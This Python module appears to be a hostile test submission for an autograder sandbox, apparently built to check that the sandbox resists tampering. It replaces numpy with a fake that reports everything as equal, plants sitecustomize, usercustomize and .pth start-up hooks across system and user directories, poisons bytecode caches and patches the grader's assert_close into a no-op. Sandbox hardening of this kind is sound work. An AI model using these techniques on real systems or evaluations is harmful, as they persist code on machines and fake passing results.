# Hostile: ships sitecustomize.py, usercustomize.py, a .pth file, a fake numpy (numpy.py and
# numpy/), and modules shadowing pytest, math, json, io, struct, socket, copy, traceback, zipfile,
# codec, autograder, encodings, re, os and types next to the section module, plus a test_xor.py
# that passes everything. Each of those files, if ever imported outside the sandbox, leaves
# /tmp/dlbook_hostile_planted_ran_<name>_<pid> and turns assert_close into a no-op.
# The functions below try to get that code run elsewhere: by replacing numpy in the worker, by
# planting sitecustomize/usercustomize/.pth files where a later interpreter would pick them up,
# by poisoning bytecode caches, and by importing and patching the grader's own modules.
import importlib
import importlib.util
import json
import marshal
import os
import site
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
TOKEN = "dlbook_hostile_planted"
with open(os.path.join(HERE, "sitecustomize.py")) as _fh:
    PAYLOAD = _fh.read()


def _dump(what, info):
    """The report as JSON of at most 400 characters: numbers first, long lists cut short."""
    info = dict(sorted(info.items(), key=lambda kv: isinstance(kv[1], (list, dict))))
    while True:
        text = json.dumps({"attack": what, **info}, separators=(",", ":"), default=str)
        longest = max((k for k, v in info.items() if isinstance(v, (list, dict)) and v),
                      key=lambda k: len(json.dumps(info[k], default=str)), default=None)
        if len(text) <= 400 or longest is None:
            return text[:400]
        v = info[longest]
        info[longest] = v[:-1] if isinstance(v, list) else dict(list(v.items())[:-1])


def _report(what, **info):
    raise RuntimeError("HOSTILE-REPORT " + _dump(what, info))


def _write(path, text):
    """Create ``path`` (never overwrite: a real sitecustomize.py stays as it is)."""
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "x") as fh:
            fh.write(text)
        return True
    except OSError:
        return False


def fit_linear_model(X, y):
    # Replace numpy in the worker: drop it from sys.modules so the next import finds ./numpy.py.
    real = sys.modules["numpy"]
    for name in [m for m in sys.modules if m == "numpy" or m.startswith("numpy.")]:
        del sys.modules[name]
    importlib.invalidate_caches()
    fake = importlib.import_module("numpy")
    for mod in list(sys.modules.values()):  # and in every module that already holds it
        for attr in ("np", "numpy"):
            if getattr(mod, attr, None) is real:
                try:
                    setattr(mod, attr, fake)
                except Exception:
                    pass
    fake.ndarray = type("ndarray", (list,), {"__eq__": lambda s, o: True})
    return fake.ndarray([0.0] * X.shape[1]), 0.5, 0.25


def relu_net_forward(X, W, c, w, b, return_hidden=False):
    # Plant start-up hooks where the next interpreter (a scoring process, the next worker) looks.
    dirs = set(site.getsitepackages()) | {site.getusersitepackages(), sys.prefix, sys.base_prefix,
                                          os.path.dirname(os.__file__), os.getcwd(), "/tmp",
                                          os.path.expanduser("~"), os.path.dirname(importlib.__file__)}
    import numpy
    dirs.add(os.path.dirname(os.path.dirname(numpy.__file__)))
    planted = []
    for d in sorted(d for d in dirs if d):
        for name, text in (("sitecustomize.py", PAYLOAD), ("usercustomize.py", PAYLOAD),
                           (f"{TOKEN}.pth", "import os; open('/tmp/dlbook_hostile_planted_ran_pth', 'w')\n")):
            if _write(os.path.join(d, name), text):
                planted.append(os.path.join(d, name))
    _report("plant-startup-hooks", planted=planted[:5], n_planted=len(planted), tried=len(dirs))


def xor_mse_and_grads(X, y, params):
    # Poison bytecode caches: numpy's lazily imported modules, the stdlib, the hidden tests.
    # The header's source mtime and size are zero, so a cache that did land is stale and never
    # run: the report shows where it could write without breaking a developer's interpreter.
    code = compile(PAYLOAD, "<dlbook_hostile_planted>", "exec")
    blob = importlib.util.MAGIC_NUMBER + b"\0\0\0\0" + b"\0" * 8 + marshal.dumps(code)
    import numpy
    sources = [os.path.join(os.path.dirname(numpy.__file__), p) for p in
               ("testing/__init__.py", "ma/__init__.py", "polynomial/__init__.py", "lib/recfunctions.py")]
    sources += [os.path.join(os.path.dirname(os.__file__), p) for p in ("unittest/__init__.py", "pdb.py", "csv.py")]
    sources += [os.path.join(HERE, "xor.py")]
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            sources.append(f"/proc/{pid}/cwd/tests/sections/ch06/test_xor.py")
    poisoned = []
    for src in sources:
        try:
            target = importlib.util.cache_from_source(src)
        except (ValueError, NotImplementedError):
            continue
        try:
            os.makedirs(os.path.dirname(target), exist_ok=True)
            with open(target, "wb") as fh:
                fh.write(blob)
            poisoned.append(target)
        except OSError:
            pass
    _report("poison-pyc", poisoned=poisoned[:5], n_poisoned=len(poisoned), tried=len(sources))


def train_xor(hidden=8, lr=0.1, steps=3000, seed=0):
    # Import the grader's own modules from the worker and patch them.
    got = {}
    for name in ("autograder.testing", "autograder.plugin", "autograder.sandbox", "autograder.scoring", "pytest"):
        try:
            mod = importlib.import_module(name)
            if hasattr(mod, "assert_close"):
                mod.assert_close = lambda *a, **k: None
            got[name] = getattr(mod, "__file__", "?")
        except BaseException as exc:  # noqa: BLE001
            got[name] = type(exc).__name__
    os.environ["PYTHONSTARTUP"] = os.path.join(HERE, "sitecustomize.py")
    os.environ["PYTHONPATH"] = HERE
    _report("import-grader", imported=got)
